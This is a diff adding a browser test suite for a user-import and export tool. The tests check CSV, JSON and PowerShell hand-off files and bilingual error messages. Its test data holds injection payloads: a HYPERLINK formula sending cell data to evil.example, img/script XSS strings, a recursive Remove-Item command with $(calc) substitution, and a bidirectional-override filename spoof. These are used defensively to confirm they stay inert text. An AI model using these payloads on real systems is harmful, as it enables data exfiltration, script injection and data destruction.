@@ -1,0 +1,220 @@
+// Files in and out: hostile names stay text, broken files are explained at their place, what leaves
+// is what was staged.
+
+import assert from "node:assert/strict";
+import { download, pick, started } from "../harness.mjs";
+import { csv, idOf, saved, staff, stagedCount, takeIn, turnTo, visit } from "../steps.mjs";
+
+/** Names that would do something if anybody took them for more than names. */
+const NAMES = [
+  `=HYPERLINK("http://evil.example/?"&A1,"see")`,
+  `<img src=x onerror=alert(1)>`,
+  `</script><script>document.title="taken over"</script>`,
+  `'; Remove-Item C:\\ -Recurse; $(calc) #`,
+  `O’Brien “the” ‘quote’ "plain" \`tick\``,
+  `Anna \u202Egpj.exe`,
+  `nul\u0000l`,
+  `{{7*7}} \${7*7} %0a&lt;b&gt;`,
+];
+
+const hostile = () => staff(NAMES.length).map((person, at) => ({ ...person, displayName: NAMES[at] }));
+
+/** Fails when a text became more than text. */
+async function onlyText(page) {
+  const found = await page.evaluate(() => ({
+    elements: document.querySelectorAll("img, main script, main style, main iframe, main object").length,
+    title: document.title.includes("taken over"),
+    links: [...document.links].filter((link) => link.origin !== location.origin).map((link) => link.href),
+  }));
+  assert.deepEqual(found, { elements: 0, title: false, links: [] });
+}
+
+const databases = (page) => page.evaluate(async () => (await indexedDB.databases()).map(({ name }) => name).sort());
+
+/** Downloads the visible list in a profile. */
+const exported = (page, profile) =>
+  download(page, async () => {
+    await page.getByRole("button", { name: /^(Export|Exporter)$/ }).click();
+    await page.getByRole("menuitem", { name: profile }).click();
+  });
+
+export default {
+  async "hostile names are shown as text everywhere, and leave as text"(t) {
+    const site = await t.site();
+    const page = await (await t.browser({ language: "en" })).page();
+    const dialogs = [];
+    page.on("dialog", (dialog) => dialogs.push(dialog.message()) && dialog.dismiss());
+    await visit(page, site, "start");
+    await pick(page, "input[type=file]", { name: "<img src=x>.csv", text: csv(hostile()) });
+    for (const sentence of ["would run this as a formula", "looks like HTML", "turns the reading direction (U+202E)", "control character (U+0000)", "typographic quotation mark"]) {
+      await page.getByText(sentence).first().waitFor();
+    }
+    await onlyText(page);
+    await page.locator("#accept-import").click();
+    await saved(page);
+    await turnTo(page, "Users");
+    for (const name of NAMES) {
+      const shown = page.getByRole("grid").getByRole("link").filter({ hasText: name.split(/[\u202e\u0000]/)[0] });
+      assert.equal(await shown.count(), 1, name);
+    }
+    await onlyText(page);
+
+    // Out in both profiles, and in again: nothing was changed on the way.
+    const raw = await exported(page, /^CSV as it is/);
+    const sheet = await exported(page, /^CSV for spreadsheets/);
+    assert.match(raw.name, /^my-tenant-users-\d{4}-\d\d-\d\d\.csv$/);
+    assert.ok(raw.text.includes(`"=HYPERLINK(""http://evil.example/?""&A1,""see"")"`));
+    assert.notEqual(raw.bytes[0], 0xef, "no byte order mark");
+    assert.deepEqual([...sheet.bytes.subarray(0, 3)], [0xef, 0xbb, 0xbf]);
+    assert.ok(!/(^|,)"?[=@]/m.test(sheet.text), "no cell that starts as a formula does");
+    for (const file of [raw, sheet]) {
+      await pick(page, "input[type=file]", { name: file.name, bytes: file.bytes });
+      await page.getByText("Everything in these files is so already.").waitFor();
+      await page.getByRole("button", { name: "Cancel" }).click();
+    }
+
+    // Staged for everybody, then as scripts.
+    await turnTo(page, "Users");
+    await page.getByRole("checkbox", { name: "Select all users that match" }).click();
+    await page.getByRole("button", { name: "Edit attribute…" }).click();
+    const dialog = page.getByRole("dialog");
+    await dialog.getByRole("combobox", { name: "Attribute" }).selectOption({ label: "Job title" });
+    await dialog.getByRole("textbox", { name: "Value" }).fill(`’); calc; ('$(calc)" <b>`);
+    await dialog.getByRole("button", { name: `Stage for ${NAMES.length} users` }).click();
+    await stagedCount(page).filter({ hasText: `${NAMES.length} staged` }).waitFor();
+    await turnTo(page, "Changes");
+    await onlyText(page);
+    await page.getByRole("link", { name: "Hand-off" }).click();
+    for (const [tab, name] of [["PowerShell script", "my-tenant-changes.ps1"], ["Rollback script", "my-tenant-rollback.ps1"]]) {
+      await page.getByRole("tab", { name: tab }).click();
+      const file = await download(page, () => page.getByRole("button", { name: `Download ${name}` }).click());
+      assert.equal(file.name, name);
+      assert.deepEqual([...file.bytes.subarray(0, 3)], [0xef, 0xbb, 0xbf], "the mark that Windows PowerShell 5.1 needs");
+      for (let at = 0; at < NAMES.length; at += 1) assert.ok(file.text.includes(idOf(at)), `${tab}: ${at}`);
+      const shown = await page.getByRole("region", { name: `Content of ${name}` }).textContent();
+      assert.equal(shown.replaceAll("\r", ""), file.text.slice(1).replaceAll("\r", ""));
+      await onlyText(page);
+    }
+    for (const [tab, name, title] of [["$batch JSON", "my-tenant-changes-batch.json", `’); calc; ('$(calc)" <b>`], ["$batch JSON, rollback", "my-tenant-rollback-batch.json", "Clerk"]]) {
+      await page.getByRole("tab", { name: tab, exact: true }).click();
+      const file = await download(page, () => page.getByRole("button", { name: `Download ${name}` }).click());
+      const requests = JSON.parse(file.text).flatMap((body) => body.requests);
+      assert.equal(requests.length, NAMES.length);
+      for (const request of requests) assert.equal(request.body.jobTitle, title);
+      assert.deepEqual(new Set(requests.map(({ method }) => method)), new Set(["PATCH"]));
+    }
+    assert.deepEqual(dialogs, []);
+  },
+
+  async "broken files are explained at file, row and column, in both languages; cancelling leaves nothing"(t) {
+    const site = await t.site();
+    const people = staff(4);
+    people[1].accountEnabled = "perhaps";
+    people[2].id = people[0].id;
+    people[3].userPrincipalName = people[0].userPrincipalName;
+    const graph = { value: staff(9).slice(7).map(({ id, userPrincipalName, displayName }) => ({ id, userPrincipalName, displayName })) };
+    const files = [
+      { name: "people.csv", text: csv(people) },
+      { name: "packed.csv", bytes: Buffer.from("504b0304140000000800", "hex") },
+      { name: "cut.json", text: JSON.stringify(graph).slice(0, -20) },
+      { name: "ansi.csv", bytes: Buffer.from(csv([{ ...staff(6)[5], displayName: "Zoé Müller" }]), "latin1") },
+    ];
+    const sentences = {
+      en: [
+        "people.csv, row 3, column “accountEnabled” “perhaps” is neither yes nor no; the value stays unknown.",
+        /people\.csv, row 4.* The same object ID as row 2/,
+        /people\.csv, row 5.* Row 2 has the same user principal name/,
+        "packed.csv This is a ZIP archive: unpack it, and drop the files in it.",
+        /cut\.json.* The file is cut off at line 1, character \d+/,
+        "ansi.csv The file is not UTF-8; it was read as Windows-1252.",
+      ],
+      fr: [
+        "people.csv, ligne 3, colonne «\u00a0accountEnabled\u00a0» «\u00a0perhaps\u00a0» n’est ni oui ni non\u202f; la valeur reste inconnue.",
+        /people\.csv, ligne 4.* Même ID d’objet que la ligne 2/,
+        /people\.csv, ligne 5.* La ligne 2 porte le même nom/,
+        "packed.csv C’est une archive ZIP\u00a0: décompressez-la et déposez les fichiers qu’elle contient.",
+        /cut\.json.* Le fichier est tronqué à la ligne 1, caractère \d+/,
+        "ansi.csv Le fichier n’est pas en UTF-8\u202f; il a été lu en Windows-1252.",
+      ],
+    };
+    for (const language of ["en", "fr"]) {
+      const page = await (await t.browser({ language })).page();
+      await visit(page, site, "start");
+      const before = await databases(page);
+      await pick(page, "input[type=file]", ...files);
+      await page.locator("#accept-import").waitFor();
+      const told = await page.getByRole("main").getByRole("listitem").allInnerTexts();
+      for (const sentence of sentences[language]) {
+        assert.ok(told.some((text) => (sentence.test ? sentence.test(text) : text === sentence)), `${sentence} in\n${told.join("\n")}`);
+      }
+      await t.accessible(page, `problems ${language}`);
+      await page.getByRole("button", { name: language === "fr" ? "Annuler" : "Cancel", exact: true }).click();
+      await page.getByText(language === "fr" ? "Aucune importation en cours" : "Nothing is being imported").waitFor();
+      await visit(page, site, "start");
+      await page.getByText(language === "fr" ? "Aucun espace de travail n’est encore enregistré" : "No workspace has been saved").waitFor();
+      assert.deepEqual(await databases(page), before, "cancelled without a trace");
+      if (language === "en") {
+        await takeIn(page, site, ...files);
+        await turnTo(page, "Users");
+        await page.getByRole("searchbox", { name: "Search users" }).fill("muller");
+        await page.getByRole("grid").getByText("Zoé Müller").waitFor();
+      }
+    }
+  },
+
+  async "an import that is cancelled while it reads leaves what is open as it was"(t) {
+    const site = await t.site();
+    const page = await (await t.browser({ language: "en" })).page();
+    await takeIn(page, site, { name: "users.csv", text: csv(staff(20)) });
+    const before = await databases(page);
+    const padding = "x".repeat(150);
+    const many = csv(staff(25_000).map((person) => ({ ...person, streetAddress: padding })));
+    const devtools = await page.context().newCDPSession(page);
+    await devtools.send("Emulation.setCPUThrottlingRate", { rate: 4 });
+    await page.evaluate(() => {
+      const watch = new MutationObserver(() => {
+        const button = document.querySelector("main progress")?.parentElement.querySelector("button");
+        if (button) {
+          watch.disconnect();
+          document.documentElement.dataset.cancelled = button.innerText;
+          button.click();
+        }
+      });
+      watch.observe(document.body, { subtree: true, childList: true });
+    });
+    await pick(page, "input[type=file]", { name: "many.csv", text: many });
+    await page.waitForSelector("html[data-cancelled=Cancel]");
+    await devtools.send("Emulation.setCPUThrottlingRate", { rate: 1 });
+    await page.getByText("Nothing is being imported").waitFor();
+    await turnTo(page, "Users");
+    await page.getByText("20 users", { exact: true }).first().waitFor();
+    await saved(page);
+    assert.deepEqual(await databases(page), before);
+    await page.reload();
+    await started(page);
+    await page.getByText("20 users", { exact: true }).first().waitFor();
+  },
+
+  async "what is not read at all damages nothing"(t) {
+    const site = await t.site();
+    const page = await (await t.browser({ language: "fr" })).page();
+    await takeIn(page, site, { name: "users.csv", text: csv(staff(20)) });
+    for (const file of [
+      { name: "vide.csv", text: "" },
+      { name: "classeur.xlsx", bytes: Buffer.from("504b030414000600080000002100", "hex") },
+      { name: "image.csv", bytes: Buffer.from("89504e470d0a1a0a0000000d49484452", "hex") },
+      { name: "autre.csv", text: "a,b,c\r\n1,2,3\r\n" },
+    ]) {
+      await pick(page, "input[type=file]", file);
+      await page.getByText("Aucun de ces fichiers n’apporte quelque chose à importer.").waitFor();
+      await page.getByRole("main").getByRole("listitem").filter({ hasText: file.name }).first().waitFor();
+      await page.getByRole("button", { name: "Annuler", exact: true }).click();
+    }
+    await turnTo(page, "Utilisateurs");
+    await pick(page, "input[type=file]", { name: "abîmé.tenantry", text: "{}" });
+    await page.getByRole("heading", { name: "Le fichier «\u00a0abîmé.tenantry\u00a0» n’a pas pu être ouvert" }).waitFor();
+    await t.accessible(page, "a foreign workspace file");
+    await visit(page, site, "users");
+    await page.getByText("20 utilisateurs", { exact: true }).first().waitFor();
+  },
+};
